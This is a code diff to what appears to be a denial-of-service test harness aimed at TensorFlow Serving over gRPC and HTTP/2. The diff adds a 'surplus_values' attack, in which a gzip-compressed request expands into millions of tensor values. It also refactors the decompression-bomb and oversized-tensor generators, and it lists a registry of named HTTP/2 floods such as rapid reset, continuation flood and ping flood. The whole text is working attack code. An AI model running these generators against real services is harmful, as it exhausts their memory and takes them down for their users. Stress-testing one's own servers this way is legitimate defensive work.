@@ -41,6 +41,8 @@ _CANCEL: Final = 8
 _METHOD: Final = b"/tensorflow.serving.PredictionService/"
 _WATCHED: Final = b"/grpc.health.v1.Health/Watch"
 _PART: Final = 200
+# Values, a byte each: as many as a message may have when it is unpacked.
+_MILLIONS: Final = 16_700_000
 Frames = Iterator[bytes]
 
 
@@ -193,26 +195,43 @@ def repeated_end() -> Frames:
         yield frame(DATA, END_STREAM, 1, b"") + frame(HEADERS, END_HEADERS | END_STREAM, 1, encode([(b"a", b"b")]))
 
 
-def packed_bombs() -> Frames:
-    """A few bytes that become 64 megabytes."""
-    packed = gzip.compress(bytes(1 << 26), 1)
-    message = b"\1" + len(packed).to_bytes(4, "big") + packed
+def _packed_calls(message: bytes) -> Frames:
+    """Calls whose message is compressed."""
+    packed = gzip.compress(message, 1)
+    body = b"\1" + len(packed).to_bytes(4, "big") + packed
     block = _block(b"Predict", (b"grpc-encoding", b"gzip"))
     for stream in count(1, 2):
         yield frame(HEADERS, END_HEADERS, stream, block)
-        for begin in range(0, len(message), 16384):
-            yield frame(DATA, 0, stream, message[begin : begin + 16384])
+        for begin in range(0, len(body), 16384):
+            yield frame(DATA, 0, stream, body[begin : begin + 16384])
         yield frame(DATA, END_STREAM, stream, b"")
 
 
-def declared_tensors() -> Frames:
-    """A few bytes that declare a tensor of gigabytes."""
+def packed_bombs() -> Frames:
+    """A few bytes that become 64 megabytes."""
+    return _packed_calls(bytes(1 << 26))
+
+
+def _score(size: int) -> predict_pb2.PredictRequest:
+    """A request whose tensors declare `size` values and have none."""
     request = predict_pb2.PredictRequest()
     request.model_spec.name, request.model_spec.signature_name = "bert", "score"
     for alias in ("token_ids", "word_ids", "num_pieces"):
         request.inputs[alias].dtype = types_pb2.DT_INT32
-        request.inputs[alias].tensor_shape.dim.add(size=1 << 30)
-    message = framed(request.SerializeToString())
+        request.inputs[alias].tensor_shape.dim.add(size=size)
+    return request
+
+
+def surplus_values() -> Frames:
+    """A few bytes that become millions of values, of a tensor that declares one."""
+    request = _score(1)
+    request.inputs["num_pieces"].int_val.extend(bytes(_MILLIONS))
+    return _packed_calls(request.SerializeToString())
+
+
+def declared_tensors() -> Frames:
+    """A few bytes that declare a tensor of gigabytes."""
+    message = framed(_score(1 << 30).SerializeToString())
     for stream in count(1, 2):
         yield _call(stream, message, _block())
 
@@ -234,8 +253,8 @@ ATTACKS: Final[dict[str, Callable[[], Frames]]] = {
     for attack in (
         *(rapid_reset, made_to_reset, continuation_flood, empty_continuations, settings_flood, ping_flood, reset_flood),
         *(empty_frames, data_dribble, priority_churn, headers_without_names, unread_answers, header_bombs, large_table),
-        *(zero_windows, open_streams, unfinished_bodies, repeated_end, packed_bombs, declared_tensors, watches),
-        *(unknown_frames,),
+        *(zero_windows, open_streams, unfinished_bodies, repeated_end, packed_bombs, surplus_values, declared_tensors),
+        *(watches, unknown_frames),
     )
 }
 
